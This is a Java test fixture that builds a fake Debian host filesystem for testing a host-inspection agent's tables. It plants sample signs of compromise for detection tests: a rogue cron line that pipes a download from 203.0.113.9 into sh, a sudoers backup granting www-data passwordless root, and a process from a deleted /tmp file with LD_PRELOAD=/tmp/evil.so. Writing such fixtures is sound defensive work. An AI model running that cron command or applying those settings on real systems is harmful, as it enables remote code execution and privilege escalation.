package io.diffy.agent.tables;

import io.diffy.agent.collect.QueryAnswer;
import io.diffy.schemas.pack.PackQuery;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Comparator;
import java.util.List;
import java.util.stream.Stream;

/** A root directory that looks like a small Debian host: nginx on port 80, one clean cron job. */
final class FakeHost implements AutoCloseable {
  static final String CLEAN_CRON =
      "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n";
  static final String ROGUE_CRON = "* * * * * root curl -s http://203.0.113.9/x | sh\n";

  private final Path root;

  private FakeHost(Path root) {
    this.root = root;
  }

  /** A host whose root directory is empty. */
  static FakeHost empty() throws IOException {
    return new FakeHost(Files.createTempDirectory("diffy-fake-host-"));
  }

  /** A host on which every table that doesn't ask the kernel has something to show. */
  static FakeHost complete() throws IOException {
    FakeHost host = empty();
    host.write(
        "/etc/passwd",
        """
        root:x:0:0:root:/root:/bin/bash
        www-data:x:33:33::/var/www:/usr/sbin/nologin
        nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
        """);
    host.write(
        "/etc/shadow", "root:$y$j9T$salt$hash:19700:0:99999:7:::\nwww-data:*:19700:0:99999:7:::\n");
    host.write("/etc/group", "root:x:0:\nadm:x:4:www-data\nwww-data:x:33:\n");
    host.write("/etc/hosts", "127.0.0.1 localhost loghost # own\n# comment\n\n::1 localhost\n");
    host.write("/etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n" + CLEAN_CRON);
    host.write(
        "/etc/sudoers",
        "# comment\nDefaults env_reset\nroot ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n");
    host.write("/etc/sudoers.d/web", "www-data ALL=NOPASSWD: \\\n  /bin/systemctl\n");
    host.write("/etc/sudoers.d/web.bak", "www-data ALL=(ALL) NOPASSWD: ALL\n");
    host.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nz admin@bastion\n");
    host.write(
        "/usr/lib/os-release",
        """
        NAME="Debian GNU/Linux"
        VERSION_ID="12"
        VERSION="12 (bookworm)"
        VERSION_CODENAME=bookworm
        ID=debian
        """);
    host.link("/etc/os-release", "/usr/lib/os-release");
    host.write("/usr/sbin/nginx", "not really nginx");
    host.write("/usr/bin/passwd", "not really passwd");
    Files.setPosixFilePermissions(
        host.path("/usr/bin/passwd"), PosixFilePermissions.fromString("rwxr-xr-x"));
    Files.setAttribute(host.path("/usr/bin/passwd"), "unix:mode", 0104755);
    host.link("/bin", "usr/bin");
    host.write(
        "/usr/lib/systemd/system/nginx.service",
        """
        [Unit]
        Description=A web server
        [Service]
        User=www-data
        [Install]
        WantedBy=multi-user.target
        """);
    host.link(
        "/etc/systemd/system/multi-user.target.wants/nginx.service",
        "/usr/lib/systemd/system/nginx.service");
    host.link("/etc/systemd/system/apt-daily.timer", "/dev/null");
    host.write(
        "/var/lib/dpkg/status",
        """
        Package: nginx
        Status: install ok installed
        Priority: optional
        Section: httpd
        Installed-Size: 1234
        Maintainer: A <a@example.org>
        Architecture: amd64
        Version: 1.22.1-9+deb12u1
        Description: web server
         more: text

        Package: gone
        Status: deinstall ok not-installed

        Package: adduser
        Status: install ok installed
        Version: 3.134""");
    host.proc();
    return host;
  }

  private void proc() throws IOException {
    write("/sys/module/overlay/initstate", "live\n");
    write("/var/lib/dpkg/info/nginx.list", "/.\n/usr/sbin/nginx\n");
    write("/proc/modules", "overlay 151552 3 nf_nat,xfs, Live 0xffffffffc0a1e000\n");
    write("/proc/mounts", "/dev/sda1 / ext4 rw 0 0\ntmpfs /mnt/my\\040disk tmpfs rw,nosuid 0 0\n");
    write("/proc/uptime", "90061.50 100.00\n");
    write("/proc/version", "Linux version 6.1.0-18-amd64 (debian@example.org) #1 SMP\n");
    write("/proc/cmdline", "BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet\n");
    write("/proc/cpuinfo", "processor\t: 0\nmodel name\t: A CPU\n\nprocessor\t: 1\n");
    write("/proc/meminfo", "MemTotal:        2048 kB\n");
    write("/proc/sys/kernel/hostname", "web-1\n");
    write("/proc/sys/kernel/arch", "x86_64\n");
    write("/proc/sys/net/ipv4/ip_forward", "0\n");
    write("/sys/class/net/eth0/flags", "0x1003\n");
    write("/sys/class/net/eth0/type", "1\n");
    write("/etc/resolv.conf", "nameserver 192.0.2.53\nsearch example.org\n");
    write(
        "/proc/net/route",
        """
        Iface\tDestination\tGateway \tFlags\tRefCnt\tUse\tMetric\tMask\tMTU\tWindow\tIRTT
        eth0\t00000000\t010200C0\t0003\t0\t0\t100\t00000000\t0\t0\t0
        """);
    write("/proc/stat", "cpu 1 2 3\nbtime 1700000000\n");
    String header = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt\n";
    write(
        "/proc/net/tcp",
        header
            + "   0: 00000000:0050 00000000:0000 0A 00000000:00000000 00:00000000 00000000 33 0"
            + " 4711 1\n"
            + "   1: 0100007F:C350 0900A8C0:01BB 01 00000000:00000000 00:00000000 00000000 33 0"
            + " 4712 1\n");
    write(
        "/proc/net/tcp6",
        header
            + "   0: 00000000000000000000000001000000:0016 00000000000000000000000000000000:0000"
            + " 0A 00000000:00000000 00:00000000 00000000 0 0 4713 1\n");
    write("/proc/net/udp", header);
    write(
        "/proc/net/unix",
        """
        Num       RefCount Protocol Flags    Type St Inode Path
        0000000000000000: 00000002 00000000 00010000 0001 01 4714 /run/my app.sock
        0000000000000000: 00000003 00000000 00000000 0001 03 4715
        """);
    process(100, "nginx", "/usr/sbin/nginx", "nginx: master\0-g\0daemon off;\0");
    process(1000, "x) y", "/tmp/.x (deleted)", "/tmp/.x\0--now\0");
    link("/proc/100/fd/6", "socket:[4711]");
    link("/proc/1000/fd/6", "socket:[4711]");
    write("/proc/1000/environ", "LD_PRELOAD=/tmp/evil.so\0PATH=/bin\0");
  }

  void process(int pid, String name, String executable, String commandLine) throws IOException {
    String directory = "/proc/" + pid;
    write(
        directory + "/stat",
        pid
            + " ("
            + name
            + ") S 1 "
            + pid
            + " 1 0 -1 4194560 1 2 3 4 250 50 0 0 20 0 1 0 500 1 2\n");
    write(
        directory + "/status",
        "Name:\t" + name + "\nUid:\t33\t33\t33\t33\nGid:\t33\t0\t33\t33\nVmRSS:\t  2 kB\n");
    write(directory + "/cmdline", commandLine);
    write(directory + "/environ", "");
    write(directory + "/cgroup", "0::/system.slice/" + name + ".service\n");
    link(directory + "/exe", executable);
    link(directory + "/cwd", "/");
    link(directory + "/root", "/");
    Files.createDirectories(path(directory + "/fd"));
  }

  Path path(String name) {
    return root.resolve(name.substring(1));
  }

  FakeHost write(String name, String text) throws IOException {
    return write(name, text.getBytes(StandardCharsets.UTF_8));
  }

  FakeHost write(String name, byte[] bytes) throws IOException {
    Path file = path(name);
    Files.createDirectories(file.getParent());
    // A file that is cut and written again waits for the disk; a new one does not.
    if (Files.isRegularFile(file, LinkOption.NOFOLLOW_LINKS)) {
      Files.delete(file);
    }
    Files.write(file, bytes);
    return this;
  }

  FakeHost link(String name, String target) throws IOException {
    Files.createDirectories(path(name).getParent());
    Files.createSymbolicLink(path(name), Path.of(target));
    return this;
  }

  FakeHost remove(String name) throws IOException {
    Files.delete(path(name));
    return this;
  }

  Path root() {
    return root;
  }

  /** Deletes the directory; JUnit's own would warn about every link that leads out of it. */
  @Override
  public void close() throws IOException {
    List<Path> files;
    try (Stream<Path> walk = Files.walk(root)) {
      files = walk.sorted(Comparator.reverseOrder()).toList();
    }
    for (Path file : files) {
      Files.delete(file);
    }
  }

  QueryAnswer ask(String sql) {
    return ask(sql, QueryLimits.DEFAULT);
  }

  QueryAnswer ask(String sql, QueryLimits limits) {
    return new BuiltInSource(root, limits).ask(query(sql));
  }

  static PackQuery query(String sql) {
    return PackQuery.of("test", sql, 3600);
  }
}
